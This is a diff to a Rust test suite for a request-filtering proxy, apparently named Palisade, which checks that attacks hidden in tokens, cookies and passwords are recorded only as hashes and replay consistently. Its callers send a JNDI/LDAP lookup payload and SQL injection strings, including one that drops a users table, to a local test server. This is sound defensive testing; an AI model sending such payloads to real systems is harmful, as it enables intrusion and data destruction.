@@ -243,69 +243,89 @@ fn concurrent_traffic_replays_the_same_at_any_number_of_workers() {
     }
 }
 
-/// Attacks where a recording keeps nothing but hashes: one kind a thread.
-fn hide_attacks_in_secrets(to: std::net::SocketAddr, rounds: usize) {
+/// Attacks where a recording keeps nothing but hashes.
+#[derive(Clone, Copy, Debug)]
+enum Hidden {
+    Token,
+    Cookie,
+    Password,
+}
+
+/// Several callers who hide attacks, and an honest one.
+fn hide_attacks(to: std::net::SocketAddr, hidden: Hidden) {
     let caller = |thread: usize| {
         move || {
-            for round in 0..rounds {
+            for round in 0..HIDDEN_ROUNDS {
                 let target = format!("/api/v1/orders/{}", thread * 1_000 + round);
                 let get = |header: &str, value: &str| {
                     call_with(to, "GET", &target, &[(header, value)], "");
                 };
-                match thread {
-                    0 => get("authorization", &format!("Bearer ${{jndi:ldap://x{round}.test/a}}")),
-                    1 => get(
-                        "cookie",
-                        &format!("sid={round}' union select null,password from users-- -"),
-                    ),
-                    2 => {
+                match hidden {
+                    _ if thread == 0 => get("authorization", "Bearer honest-kq93jf8d0s9fk20dkf9"),
+                    Hidden::Token => {
+                        let token = format!("Bearer ${{jndi:ldap://x{round}.test/a}}");
+                        get("authorization", &token);
+                    }
+                    Hidden::Cookie => {
+                        let attack = "' union select null,password from users-- -";
+                        get("cookie", &format!("sid={round}{attack}"));
+                    }
+                    Hidden::Password => {
                         let email = format!("u{round}@example.com");
                         let password = format!("{round}' or 1=1; drop table users;-- -");
                         drop(log_in_as(to, &email, &password));
-                    }
-                    _ => {
-                        get("authorization", &format!("Bearer honest-kq93jf8d0s9fk20dkf9{thread}"))
                     }
                 }
             }
         }
     };
-    let threads: Vec<_> = (0..4).map(|thread| std::thread::spawn(caller(thread))).collect();
+    let threads: Vec<_> =
+        (0..HIDING_CALLERS).map(|thread| std::thread::spawn(caller(thread))).collect();
     threads.into_iter().for_each(|thread| thread.join().expect("a caller"));
 }
 
+const HIDING_CALLERS: usize = 4;
+const HIDDEN_ROUNDS: usize = 8;
+
 #[test]
 fn attacks_in_secrets_replay_the_same_though_the_recording_has_hashes_of_them() {
-    for (workers, mode) in [("1", "enforce"), ("8", "enforce"), ("8", "monitor")] {
-        let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
-        let file = data.path().join("recording.jsonl");
-        let named = file.to_str().expect("a path").to_owned();
-        let folder = data.path().join("data");
-        let flags = ["--mode", mode, "--workers", workers, "--record", &named];
-        let palisade = Palisade::run(&upstream, &folder, &flags);
-        hide_attacks_in_secrets(palisade.address, 20);
-        assert_eq!(palisade.end(), 143);
-        let written = std::fs::read_to_string(&file).expect("the recording");
-        for secret in ["jndi:", "union select", "drop table"] {
-            assert!(!written.contains(secret), "{secret} is in the recording");
+    for (workers, mode) in [("1", "enforce"), ("8", "monitor"), ("8", "enforce")] {
+        for hidden in [Hidden::Token, Hidden::Cookie, Hidden::Password] {
+            replay_hidden(workers, mode, hidden);
         }
-        let lines = replay(&folder, &[&named]);
-        let summary = &lines.last().expect("a summary")["summary"];
-        assert_eq!(summary["exchanges"], 80, "{workers} workers, {mode}: {summary}");
-        assert_eq!(summary["same"], 80, "{workers} workers, {mode}: {summary}");
-        let is_attack = |line: &&serde_json::Value| {
-            let signals = line["signals"].as_array();
-            signals.is_some_and(|list| list.iter().any(|it| it["detector"] == "known-attack"))
-        };
-        let attacks = lines.iter().filter(is_attack).count();
-        assert_eq!(attacks, 60, "{workers} workers, {mode}: {summary}");
-        // Without what the rules found there the replay would be another.
-        let bare: String = written.lines().map(without_rules).collect();
-        std::fs::write(&file, bare).expect("written");
-        let lines = replay(&folder, &[&named]);
-        let summary = &lines.last().expect("a summary")["summary"];
-        assert_ne!(summary["same"], 80, "{workers} workers, {mode}: {summary}");
     }
+}
+
+fn replay_hidden(workers: &str, mode: &str, hidden: Hidden) {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let file = data.path().join("recording.jsonl");
+    let named = file.to_str().expect("a path").to_owned();
+    let folder = data.path().join("data");
+    let flags = ["--mode", mode, "--workers", workers, "--record", &named];
+    let palisade = Palisade::run(&upstream, &folder, &flags);
+    hide_attacks(palisade.address, hidden);
+    assert_eq!(palisade.end(), 143);
+    let written = std::fs::read_to_string(&file).expect("the recording");
+    for secret in ["jndi:", "union select", "drop table"] {
+        assert!(!written.contains(secret), "{secret} is in the recording");
+    }
+    let lines = replay(&folder, &[&named]);
+    let summary = &lines.last().expect("a summary")["summary"];
+    let run = format!("{workers} workers, {mode}, {hidden:?}: {summary}");
+    assert_eq!(summary["exchanges"], HIDING_CALLERS * HIDDEN_ROUNDS, "{run}");
+    assert_eq!(summary["same"], summary["exchanges"], "{run}");
+    // After a few of them the source is blocked, and that says enough.
+    let is_attack = |line: &&serde_json::Value| {
+        let signals = line["signals"].as_array();
+        signals.is_some_and(|list| list.iter().any(|it| it["detector"] == "known-attack"))
+    };
+    assert_ne!(lines.iter().filter(is_attack).count(), 0, "{run}");
+    // Without what the rules found there the replay would be another.
+    let bare: String = written.lines().map(without_rules).collect();
+    std::fs::write(&file, bare).expect("written");
+    let lines = replay(&folder, &[&named]);
+    let summary = &lines.last().expect("a summary")["summary"];
+    assert_ne!(summary["same"], summary["exchanges"], "{run}");
 }
 
 /// A line of a recording without what rules found.
